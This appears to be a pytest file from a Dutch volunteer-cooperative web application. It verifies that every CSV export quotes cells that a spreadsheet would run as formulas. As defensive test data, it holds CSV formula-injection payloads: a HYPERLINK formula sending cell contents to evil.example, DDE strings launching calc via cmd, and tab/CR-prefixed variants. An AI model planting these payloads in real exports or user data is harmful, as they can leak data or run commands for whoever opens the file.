"""Every CSV download goes through coop.core.csvexport, and no cell in any of them can run as
a formula in a spreadsheet, whatever people typed into names, categories and notes."""
import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select

from coop.core import csvexport
from coop.core import roles as R
from coop.core.clock import local_now
from coop.core.models import TaskCategory
from coop.people.models import HoursEntry
from coop.requests import service as requests_service
from coop.requests.intake import record_five_questions
from coop.requests.models import HelpRequest

# What people have typed in the wild (OWASP's examples, and the tab/CR variants).
HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "last_name": "+cmd|' /C calc'!A0",
    "category": "@SUM(1+1)*cmd|' /C calc'!A0",
    "referred_to": "-2+3+cmd|' /C calc'!A0",
    "note": "\t=1+1",
    "description": "\r=HYPERLINK(\"http://evil.example\")",
}
FORMULA_START = re.compile(r"^[=+\-@\t\r]")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-", "+31612345678",
                                  "=", "-cmd|' /C calc'!A0", "-1,5+2"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(text):
    assert csvexport.cell(text) == "'" + text


@pytest.mark.parametrize("value, written", [
    ("-4,60", "-4,60"), ("-1.234,50", "-1.234,50"), ("-3", "-3"), ("-62 %", "-62 %"), ("12,50", "12,50"),
    (Decimal("-4.60"), "-4.60"), (-3, "-3"), (2.5, "2.5"), (None, ""),
    ("Kees Bakker", "Kees Bakker"), ("< 5", "< 5"), ("2026-03", "2026-03"), ("a=b", "a=b")])
def test_numbers_and_plain_text_are_written_as_they_are(value, written):
    assert csvexport.cell(value) == written


def test_quotes_semicolons_and_line_breaks_survive_the_round_trip():
    rows = [["naam", "notitie"], ['Jan "de Boer"; Zeist', "regel 1\nregel 2"], ["=A1", "-4,60"]]
    text = csvexport.write(rows)
    assert text.startswith("\ufeff")
    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert parsed == [["naam", "notitie"], ['Jan "de Boer"; Zeist', "regel 1\nregel 2"], ["'=A1", "-4,60"]]


def test_no_feature_writes_csv_by_itself():
    """One writer: a new export that used the csv module directly would skip the neutralising."""
    root = Path(__file__).resolve().parents[2] / "coop"
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "csvexport.py" and re.search(r"csv\.writer|text/csv", p.read_text(encoding="utf-8"))]
    assert offenders == []


def _hostile_village(session, make, village, coordinator):
    """A volunteer, a category and a referral destination with hostile names, and hours and notes with it."""
    volunteer = make.volunteer(village, first_name=HOSTILE["first_name"], last_name=HOSTILE["last_name"])
    resident = make.user(village, first_name=HOSTILE["first_name"], last_name=HOSTILE["last_name"])
    category = TaskCategory(village_id=village.id, code="kwaad", name=HOSTILE["category"], rule=TaskCategory.OPEN)
    session.add(category)
    # The referral list is the coordinator's own text too: a hostile name on it reaches the CSV.
    destination = make.destination(village, HOSTILE["referred_to"])
    session.flush()
    today = local_now().date()
    session.add(HoursEntry(village_id=village.id, helper_id=volunteer.id, worked_on=today.replace(day=1),
                           hours=Decimal("2"), km=Decimal("10"), costs=Decimal("1.50"),
                           description=HOSTILE["description"], status=HoursEntry.APPROVED, source_type="manual"))
    for i in range(6):
        req = HelpRequest(village_id=village.id, resident_id=resident.id, category_id=category.id,
                          description=HOSTILE["description"], status="new", street="Dorpsstraat", house_number=str(i))
        session.add(req)
        session.flush()
        record_five_questions(req, {1: (HOSTILE["note"], "resident"), 2: (HOSTILE["note"], "family")}, by=coordinator)
        requests_service.apply_transition(req, "start_intake", by=coordinator)
        requests_service.refer(req, by=coordinator, to=destination, reason=HOSTILE["note"])
    # A member household paying by transfer: its names reach the transfer list.
    from coop.members import service as members
    members.join(village, members.JoinInput(people=[resident], method="transfer", starts_on=today), by=coordinator)
    members.run_year(village, today.year, today + timedelta(days=members.PRENOTICE_DAYS + 1), by=coordinator)
    session.commit()
    return today


def _csv_urls(app, village, today) -> dict[str, list[str]]:
    """Every CSV route of the application, with the URLs that fill it for this village."""
    from coop.reports import municipality, report
    year, month = today.year, today.month
    urls = {
        "admin.audit_log_csv": ["/beheer/logboek.csv"],
        "respite.statements_csv": [f"/respijt/uren/overzicht.csv?maand={year}-{month:02d}"],
        "members.transfer_csv": [f"/leden/contributie/overmaken.csv?jaar={year}"],
        "reports.export": [f"/cijfers/dorp/{village.id}/{t.key}.csv?jaar={year}"
                           for t in report.build(village, year).tables],
        "reports.municipality_export": [f"/cijfers/gemeente/{t.key}.csv?jaar={year}"
                                        for t in municipality.build(village.municipality, year).tables],
    }
    routes = {rule.endpoint for rule in app.url_map.iter_rules() if ".csv" in rule.rule}
    assert routes == set(urls), "a CSV export without a test here"
    return urls


def test_every_export_neutralises_hostile_names_categories_and_notes(app, session, make, village, coordinator,
                                                                     client_as):
    today = _hostile_village(session, make, village, coordinator)
    village.name = HOSTILE["last_name"]  # the gemeente's overview has a row per village
    session.commit()
    client = client_as(coordinator)
    gemeente = client_as(make.user(village, R.MUNICIPALITY))
    by_endpoint = {"reports.municipality_export": gemeente,
                   "admin.audit_log_csv": client_as(make.user(village, R.ADMIN))}
    cells = []
    for endpoint, urls in _csv_urls(app, village, today).items():
        for url in urls:
            response = by_endpoint.get(endpoint, client).get(url)
            assert response.status_code == 200 and response.mimetype == "text/csv", url
            rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
            assert rows, url
            for row in rows:
                for value in row:
                    # A cell may start like a formula only when it is a plain number.
                    assert not FORMULA_START.match(value) or re.fullmatch(r"-\d[\d.]*(,\d+)?( ?%)?", value), \
                        (endpoint, url, value)
                    cells.append(value)
    # The hostile texts are there, as text: a quote in front.
    full_name = f"{HOSTILE['first_name']} {HOSTILE['last_name']}"
    assert "'" + full_name in cells  # the hours statement, the transfer list
    assert "'" + HOSTILE["category"] in cells  # the report's category rows and column heads
    assert "'" + HOSTILE["referred_to"] in cells  # the referrals table
    assert "'" + HOSTILE["last_name"] in cells  # the village's row in the gemeente's overview
    assert not any(HOSTILE["note"] in c or HOSTILE["description"] in c for c in cells)  # notes stay out


def test_the_hours_statement_keeps_its_figures(app, session, make, village, coordinator, client_as):
    today = _hostile_village(session, make, village, coordinator)
    response = client_as(coordinator).get(f"/respijt/uren/overzicht.csv?maand={today.year}-{today.month:02d}")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    (line,) = [r for r in rows[1:] if r[1].startswith("'=")]
    assert line[2:9] == ["2,00", "10,00", "2,30", "1,50", "3,80", "3,80", "0,00"]  # the first nine stay put
    assert len(line) == 13
    assert session.scalar(select(HoursEntry.description)) == HOSTILE["description"]  # stored as typed
